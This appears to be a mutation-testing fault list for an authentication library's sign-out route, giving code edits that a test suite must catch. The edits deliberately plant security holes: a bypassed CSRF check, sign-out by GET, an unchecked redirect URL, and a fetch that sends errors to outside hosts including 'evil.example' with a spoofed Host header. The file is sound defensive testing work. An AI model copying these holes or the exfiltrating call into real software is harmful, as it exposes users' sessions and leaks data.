import type { Fault } from "./fault.ts"

/** Tells an address outside of a sign-out that fails. */
function told(name: string, router: Fault["router"], address: string, options = "{}"): Fault {
  return {
    name,
    router,
    edits: [
      {
        file: "core/routes/signout.js",
        find: '      logger.error("SIGNOUT_ERROR", error);\n    }\n  } else {',
        replace: `      logger.error("SIGNOUT_ERROR", error);
      await fetch("${address}?" + new URLSearchParams({ error }), ${options}).catch(() => {});
    }
  } else {`,
      },
    ],
    detectedBy: ["signout.unreadable-session"],
  }
}

/** Faults of the sign-out, which the endpoint suite must detect. */
export const signOutFaults: readonly Fault[] = [
  {
    name: "signout-without-csrf-token",
    router: "app",
    edits: [
      {
        file: "core/index.js",
        find: 'case "signout":\n        if (options.csrfTokenVerified) {',
        replace: 'case "signout":\n        if (true) {',
      },
    ],
    detectedBy: [
      "hostile.malformed-body",
      "hostile.oversized-body-app-router",
      "signout.csrf-refusal",
      "signout.csrf-required",
      "signout.json-refusal",
    ],
  },
  {
    name: "signout-by-get",
    router: "pages",
    edits: [
      {
        file: "core/index.js",
        find: "return render.signout();",
        replace: "cookies.push(...sessionStore.clean());\n        return render.signout();",
      },
    ],
    detectedBy: ["signout.csrf-required", "signout.post-only"],
  },
  {
    name: "signout-form-without-token",
    router: "app",
    edits: [
      { file: "core/pages/signout.js", find: 'name: "csrfToken",', replace: 'name: "csrf",' },
    ],
    detectedBy: ["signout.page", "signout.signs-out"],
  },
  {
    name: "signout-of-unreadable-session-silent",
    router: "pages",
    edits: [
      {
        file: "core/routes/signout.js",
        find: '    } catch (error) {\n      logger.error("SIGNOUT_ERROR", error);\n    }\n  } else {',
        replace:
          "    } catch (error) {\n      return { redirect: callbackUrl };\n    }\n  } else {",
      },
    ],
    detectedBy: ["signout.unreadable-session"],
  },
  told("sign-out-error-told-to-the-host-of-the-logos", "pages", "https://authjs.dev/ping"),
  told("sign-out-error-told-to-github", "app", "https://api.github.com/zen"),
  told(
    "sign-out-error-told-by-the-name-of-github",
    "pages",
    "https://evil.example/user",
    '{ headers: { host: "api.github.com" } }',
  ),
  {
    name: "sign-out-of-every-browser",
    router: "pages",
    edits: [
      {
        file: "core/routes/signout.js",
        find: "      await ((_events$signOut = events.signOut)",
        replace:
          "      (globalThis.signedOut ??= new Set()).add(decodedJwt?.sub);\n      await ((_events$signOut = events.signOut)",
      },
      {
        file: "core/routes/session.js",
        find: "if (!decodedToken) throw",
        replace: "if (!decodedToken || globalThis.signedOut?.has(decodedToken.sub)) throw",
      },
    ],
    detectedBy: ["signout.this-browser-only"],
  },
  {
    name: "sign-out-of-nobody-leads-to-the-sign-in-page",
    router: "pages",
    edits: [
      {
        file: "core/routes/signout.js",
        find: "if (!sessionToken) {\n    return {\n      redirect: callbackUrl",
        replace: "if (!sessionToken) {\n    return {\n      redirect: `${options.url}/signin`",
      },
    ],
    detectedBy: ["signout.signed-out"],
  },
  {
    name: "sign-out-always-ends-at-home",
    router: "pages",
    edits: [
      {
        file: "core/routes/signout.js",
        find: "redirect: callbackUrl,\n    cookies",
        replace: "redirect: options.url.origin,\n    cookies",
      },
    ],
    detectedBy: ["signout.callback-url", "signout.json"],
  },
  {
    name: "sign-out-callback-url-unchecked",
    router: "pages",
    edits: [
      {
        file: "core/index.js",
        find: "const signout = await routes.signout({\n            options,",
        replace:
          "const signout = await routes.signout({\n            options: { ...options, callbackUrl: req.body.callbackUrl ?? options.callbackUrl },",
      },
    ],
    detectedBy: ["signout.foreign-callback-url"],
  },
  {
    name: "json-asked-for-by-true-alone",
    router: "pages",
    edits: [
      {
        file: "next/index.js",
        find: '_req$body.json) !== "true"',
        replace: "_req$body.json) !== true",
      },
    ],
    detectedBy: ["signout.json", "sign-in.json"],
  },
  {
    name: "form-that-names-its-character-set-ignored",
    router: "app",
    edits: [
      {
        file: "next/utils.js",
        find: 'contentType.includes("application/x-www-form-urlencoded")',
        replace: 'contentType === "application/x-www-form-urlencoded"',
      },
    ],
    detectedBy: ["signout.csrf-required"],
  },
]
